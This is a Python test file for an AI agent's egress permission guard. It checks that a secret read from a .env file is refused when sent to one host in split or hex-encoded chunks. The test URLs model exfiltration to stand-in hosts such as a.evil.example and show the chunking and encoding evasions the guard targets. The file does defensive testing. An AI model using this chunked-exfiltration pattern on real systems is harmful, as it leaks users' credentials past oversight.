"""A secret split over several calls to one destination is refused at the call that completes
it (decide() on the real web_fetch spec, and the history's own bounds)."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.core.permission_mode import PermissionMode
from app.core.permissions.egress import SecretMatcher
from app.core.permissions.egress_history import (
    EgressHistory,
    egress_destination,
    outgoing_text,
)
from app.core.permissions.flow import FlowLabel, FlowState
from app.core.permissions.rules import PermissionRule
from app.core.permissions.service import DecisionContext, ToolPermissionService
from app.core.sandbox import Sandbox
from app.core.sensitive_paths import SensitivePaths
from app.core.tools.base import ToolContext
from app.core.tools.default_registry import builtin_provider
from app.core.tools.registry import ToolRegistry
from tests.sandbox_support import STATUS

SECRET = "Xq9Lm2Vb7Rt4Kp8Wn3Hj6Gf1Ds5Za0QeYc"


@pytest.fixture
def service(db, project: Path, tmp_path: Path):
    registry = ToolRegistry([builtin_provider()])
    service = ToolPermissionService(db, registry, project_root=project,
                                    sandbox=Sandbox(STATUS, STATUS.available),
                                    sensitive=SensitivePaths(tmp_path / "home"))
    service.rules.add(PermissionRule("allow", server_id="builtin", tool_name="web_fetch"))
    yield service
    service.close()


def flow_that_read_the_secret() -> FlowState:
    flow = FlowState()
    flow.secrets.add_text(f"API_TOKEN={SECRET}\n", "~/project/.env")
    return flow


def fetch(service, project: Path, flow: FlowState, url: str) -> str:
    context = DecisionContext(mode=PermissionMode.ASK, flow=flow,
                              tool_context=ToolContext(project_root=project))
    return service.decide("builtin", "web_fetch", {"url": url}, context).kind


def chunks(n: int) -> list[str]:
    size = -(-len(SECRET) // n)
    return [SECRET[i:i + size] for i in range(0, len(SECRET), size)]


def test_a_secret_in_four_query_chunks_to_one_host_is_refused(service, project):
    flow = flow_that_read_the_secret()
    pieces = chunks(4)
    assert all(len(p) < 12 for p in pieces)  # each alone is too short to tell
    kinds = [fetch(service, project, flow, f"https://a.evil.example/c?i={i}&d={piece}")
             for i, piece in enumerate(pieces)]
    # Refused as soon as the pieces sent so far hold MIN_MATCH_LEN characters of it.
    assert kinds[0] == "allow" and "deny" in kinds
    assert kinds.index("deny") <= 2
    # ... and a different subdomain of the same site is the same destination.
    flow = flow_that_read_the_secret()
    assert fetch(service, project, flow, f"https://a.evil.example/{pieces[0]}{pieces[1][:3]}"
                 ) == "allow"
    assert fetch(service, project, flow, f"https://b.evil.example/{pieces[1][3:]}") == "deny"


def test_the_same_chunks_to_different_hosts_are_not_joined(service, project):
    flow = flow_that_read_the_secret()
    hosts = ["one.example", "two.example", "three.example", "four.example"]
    assert [fetch(service, project, flow, f"https://{host}/c?d={piece}")
            for host, piece in zip(hosts, chunks(4), strict=True)] == ["allow"] * 4


def test_refused_calls_are_not_recorded(service, project):
    flow = flow_that_read_the_secret()
    flow.add(FlowLabel.READ_SENSITIVE, "~/project/.env", "read_file")  # now every fetch asks
    pieces = chunks(4)
    for piece in pieces:
        assert fetch(service, project, flow, f"https://evil.example/?d={piece}") == "ask"
    assert flow.egress.sent("host:evil.example") == ""  # none went out unapproved
    flow.record_egress("host:evil.example", {"url": f"https://evil.example/?d={pieces[0]}"})
    flow.record_egress("host:evil.example", {"url": f"https://evil.example/?d={pieces[1]}"})
    assert fetch(service, project, flow, f"https://evil.example/?d={pieces[2]}") == "deny"


def test_an_encoded_secret_in_chunks_is_refused(service, project):
    flow = flow_that_read_the_secret()
    blob = SECRET.encode().hex()
    parts = [blob[i:i + 10] for i in range(0, len(blob), 10)]
    kinds = [fetch(service, project, flow, f"https://evil.example/x/{part}") for part in parts]
    assert "deny" in kinds


def test_history_is_bounded():
    history = EgressHistory(max_chars=100, max_destinations=3)
    for i in range(10):
        history.record(f"host:h{i}.example", {"url": f"https://h{i}.example/?d={'x' * 80}"})
        history.record(f"host:h{i}.example", {"url": f"https://h{i}.example/?d={'y' * 80}"})
    assert history.sent("host:h0.example") == ""
    assert history.sent("host:h9.example") == "x" * 20 + "y" * 80
    assert history.sent("host:h9.example", "query d") == "y" * 6  # a slot keeps 1/16


def test_a_hit_only_in_what_went_before_does_not_block_later_calls():
    matcher = SecretMatcher()
    history = EgressHistory()
    history.record("host:e.example", {"url": f"https://e.example/?d={SECRET}"})
    matcher.add_secret(SECRET, "learnt afterwards")
    assert history.joined_hits("host:e.example", {"url": "https://e.example/?q=hello"},
                               matcher) == []


@pytest.mark.parametrize(("server", "tool", "tool_input", "key"), [
    ("builtin", "web_fetch", {"url": "https://api.evil.example:8443/x"}, "host:evil.example"),
    ("builtin", "web_fetch", {"url": "http://127.0.0.1:9/x"}, "host:127.0.0.1"),
    ("builtin", "web_search", {"query": "x"}, "tool:web_search"),
    ("github", "create_issue", {"url": "not a url"}, "server:github"),
])
def test_destinations(server, tool, tool_input, key):
    assert egress_destination(server, tool, tool_input) == key


def test_outgoing_text_keeps_the_data_of_a_url():
    assert outgoing_text({"url": "https://e.example/a/b?x=1&y=two#frag", "n": 3,
                          "body": ["t", {"k": "v"}]}) == "ab1twofragtv"
